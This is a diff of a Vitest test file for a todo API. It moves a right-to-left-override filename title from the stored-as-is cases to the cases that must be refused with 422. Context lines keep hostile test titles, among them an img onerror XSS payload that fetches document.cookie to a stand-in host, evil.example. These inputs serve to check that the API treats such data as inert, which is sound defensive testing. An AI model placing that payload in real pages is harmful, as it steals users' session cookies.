@@ -1,5 +1,6 @@
 // Hostile titles (SQL, HTML and script, odd Unicode) are stored and returned exactly as sent, as
-// inert JSON data; characters Postgres cannot store are refused, not turned into a 500.
+// inert JSON data; characters Postgres cannot store, and those that disguise text (controls, bidi
+// overrides), are refused, not turned into a 500.
 import { beforeAll, expect, test } from "vitest";
 import type { Todo } from "#contract";
 import { apiCall, signedInUser } from "../../test/client.ts";
@@ -17,7 +18,6 @@ test.each([
   // biome-ignore lint/suspicious/noTemplateCurlyInString: the payload is the point
   ["an event handler", '<img src=x onerror="fetch(`//evil.example/${document.cookie}`)">'],
   ["emoji and ZWJ sequences", "Buy 🥛 for 👩‍👩‍👧‍👦"],
-  ["right-to-left override", "invoice\u202Egpj.exe"],
   ["combining marks", "Z̸̢̛a̵l̴g̶o̷"],
   ["non-BMP and CJK", "𝔘𝔫𝔦𝔠𝔬𝔡𝔢 漢字 テスト"],
   ["a JSON lookalike", '{"title": "nested", "completed": true}'],
@@ -38,6 +38,7 @@ test("the todos table survived all of it", async () => {
 test.each([
   ["a NUL character", "nul\u0000byte"],
   ["a control character", "bell\u0007"],
+  ["a right-to-left override", "invoice\u202Egpj.exe"],
 ])("%s is refused with 422", async (_, title) => {
   const res = await apiCall(token, "POST", "/api/todos", { title });
   expect(res.status).toBe(422);
